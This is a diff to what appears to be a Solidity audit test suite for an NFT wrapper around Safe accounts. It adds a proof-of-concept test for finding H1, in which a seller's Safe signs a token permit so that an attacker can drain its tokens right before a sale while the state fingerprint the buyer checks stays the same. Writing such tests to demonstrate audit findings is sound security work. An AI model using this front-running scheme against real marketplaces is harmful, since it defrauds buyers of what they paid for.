@@ -6,7 +6,7 @@ import {IWrappedSafe} from "../../src/IWrappedSafe.sol";
 import {Account} from "../Accounts.sol";
 import {NestingSeller, Seller} from "../Attackers.sol";
 import {Safe} from "../GenuineSafes.sol";
-import {Bid, HookedToken} from "../Markets.sol";
+import {AllowingToken, Bid, HookedToken} from "../Markets.sol";
 import {AttackTest} from "./AttackTest.sol";
 
 /// @dev Selling something else than the buyer saw: rows vii, xiv and the first of ix of the table, findings C1, H1 and H3.
@@ -140,6 +140,33 @@ contract SaleTest is AttackTest {
         pass(10 minutes);
         offer.fingerprint = wrapper.getStateFingerprint(offer.tokenId);
         return _buy(asSeen, offer, _sign(asSeen, offer));
+    }
+
+    function test_attack_H1_aSafeThatSignsIsEmptiedRightBeforeAPlainSale() public {
+        works(_permitThenFill);
+    }
+
+    /// @dev In one block and without the wrapper: nothing starts the quiet time, and the fingerprint stays.
+    function _permitThenFill(Kind memory kind) private returns (bool) {
+        address seller = vm.addr(KEY);
+        (Safe safe, uint256 tokenId) = newToken(kind, seller);
+        AllowingToken token = new AllowingToken();
+        token.mint(address(safe), 100);
+        setSigning(tokenId, seller, true);
+        pass(10 minutes);
+        Bid bid = new Bid{value: 5 ether}(wrapper, 0);
+        vm.prank(seller);
+        wrapper.approve(address(bid), tokenId);
+        bytes32 seen = wrapper.getStateFingerprint(tokenId);
+        pass(1 days);
+
+        bytes memory signature = signFor(safe, KEY, token.permitHash(address(safe), MALLORY, 100));
+        token.permit(address(safe), MALLORY, 100, signature);
+        vm.prank(MALLORY);
+        token.take(address(safe), 100);
+        bool looksTheSame = wrapper.getStateFingerprint(tokenId) == seen;
+        attempt(seller, address(bid), abi.encodeCall(Bid.fill, (tokenId)));
+        return looksTheSame && wrapper.ownerOf(tokenId) == address(this) && token.balanceOf(MALLORY) == 100;
     }
 
     // ─── ix: between the listing and the sale ────────────────────────────────────────────────────────────────────────────
